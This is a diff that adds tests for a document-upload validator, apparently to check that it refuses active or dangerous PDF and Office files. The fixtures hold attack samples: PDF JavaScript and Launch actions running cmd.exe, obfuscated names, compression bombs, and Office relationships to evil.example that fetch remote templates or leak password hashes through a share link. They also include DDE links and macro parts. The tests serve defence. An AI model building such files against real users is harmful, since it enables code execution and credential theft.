@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { DOCX_PARTS, pdf, XLSX_PARTS, zip } from '../../../../../tests/fixtures/uploads/documents.ts'
@@ -97,6 +98,23 @@ describe('documents', () => {
     expect((await found(zip(DOCX_PARTS))).type).toMatch(/wordprocessingml\.document$/)
   })
 
+  test.each([
+    ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
+    ['a script whose name is spelt by numbers', '<< /S /J#61vaScr#69pt /JS 5 0 R >>'],
+    ['a program that is started', '<< /S /Launch /F (cmd.exe) >>'],
+    ['a script across two reads', `${' '.repeat(256 * 1024 - 60)}<< /S /JavaScript >>`],
+  ])('a PDF with %s is refused', async (_, body) => expect(await refusal(pdf(body))).toBe('file.active'))
+
+  const objects = (content: string, filter = '/FlateDecode') =>
+    `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\r\n${deflateSync(content).toString('latin1')}\nendstream\nendobj`
+
+  test('scripts in packed objects of a PDF are found, and other ways to pack objects are refused', async () => {
+    expect(await refusal(pdf(objects('1 0 << /S /JavaScript /JS (x) >>')))).toBe('file.active')
+    expect(await refusal(pdf(objects('1 0 << /Type /Page >>', '[/ASCIIHexDecode /FlateDecode]')))).toBe('file.active')
+    expect(await refusal(pdf(objects('1 0 << /Type /Page >>')))).toBe('taken')
+    expect(await refusal(pdf(objects(' '.repeat(101_000_000))))).toBe('file.bomb')
+  })
+
   test('more than twenty megabytes are refused', async () => {
     const overhead = pdf().length
     expect(await refusal(pdf('x'.repeat(20_000_000 - overhead)))).toBe('taken')
@@ -124,6 +142,62 @@ describe('documents', () => {
     ['file.damaged', { name: '/etc/passwd' }],
     ['file.damaged', { name: 'xl/workbook.xml' }],
   ])('%s: %o', async (code, part) => expect(await refusal(zip([...XLSX_PARTS, part]))).toBe(code))
+
+  test('a part that unpacks to more than the directory says is refused, and one that unpacks to less', async () => {
+    const lying = { name: 'xl/a.xml', content: 'x'.repeat(900_000) }
+    expect(await refusal(zip([...XLSX_PARTS, lying]))).toBe('taken')
+    expect(await refusal(zip([...XLSX_PARTS, { ...lying, unpacked: 1000 }]))).toBe('file.bomb')
+    expect(await refusal(zip([...XLSX_PARTS, { ...lying, unpacked: 900_001 }]))).toBe('file.damaged')
+    expect(await refusal(zip([...XLSX_PARTS, { ...lying, packed: Buffer.from('no deflate') }]))).toBe('file.damaged')
+  })
+
+  const relation = (type: string, target: string, mode = 'TargetMode="External"') => ({
+    name: 'word/_rels/settings.xml.rels',
+    content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
+  })
+
+  test.each([
+    ['a remote template', relation('attachedTemplate', 'https://evil.example/a.dotm')],
+    ['a template on a share', relation('attachedTemplate', 'file://evil.example/a.dotm')],
+    ['a picture that is fetched', relation('image', 'https://evil.example/seen.png')],
+    ['a link to a share, which sends a password’s hash', relation('hyperlink', '&#92;&#92;evil.example/a')],
+    ['a table of a workbook elsewhere', relation('externalLinkPath', 'https://evil.example/a.xlsx')],
+    ['a mode that is written as numbers', relation('image', 'https://evil.example', 'TargetMode="&#69;xternal"')],
+    ['a target with a bracket in it', relation('image', 'https://evil.example/?a>b')],
+    [
+      'a macro project under another name',
+      { name: 'a.rels', content: '<Relationship Type="x/vbaProject" Target="a.bin"/>' },
+    ],
+    ['a sheet of old macros', { name: 'xl/macrosheets/sheet1.xml' }],
+    [
+      'a link to another program',
+      { name: 'xl/externalLinks/externalLink1.xml', content: '<x:ddeLink ddeService="cmd"/>' },
+    ],
+  ])('%s is refused', async (_, part) => expect(await refusal(zip([...DOCX_PARTS, part]))).toBe('file.active'))
+
+  test('a content type with macros is refused', async () => {
+    const [, main] = XLSX_PARTS.slice(1)
+    const types = {
+      name: '[Content_Types].xml',
+      content: '<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
+    }
+    expect(await refusal(zip([types, ...(main ? [main] : [])]))).toBe('file.active')
+  })
+
+  test('a description that could be read in two ways is refused', async () => {
+    for (const content of ['<!DOCTYPE a [<!ENTITY b "External">]>', '\0', '<Relationship Id="a" TargetMode=External>'])
+      expect(await refusal(zip([...DOCX_PARTS, { name: 'word/_rels/a.rels', content }])), content).toBe('file.damaged')
+  })
+
+  test.each([
+    relation('hyperlink', 'https://www.supplier.example/a?b=1&amp;c=2'),
+    relation('hyperlink', 'mailto:sales@supplier.example'),
+    relation('externalLinkPath', 'prices.xlsx'),
+    relation('externalLinkPath', 'file:///C:/prices.xlsx'),
+    relation('image', 'media/image1.png', ''),
+  ])('links that a reader presses, and parts of the document itself, are accepted: %o', async (part) =>
+    expect(await refusal(zip([...DOCX_PARTS, part]))).toBe('taken'),
+  )
 
   test('a zip archive that is not a document is refused', async () =>
     expect(await refusal(zip([{ name: 'a.txt' }]))).toBe('file.type'))
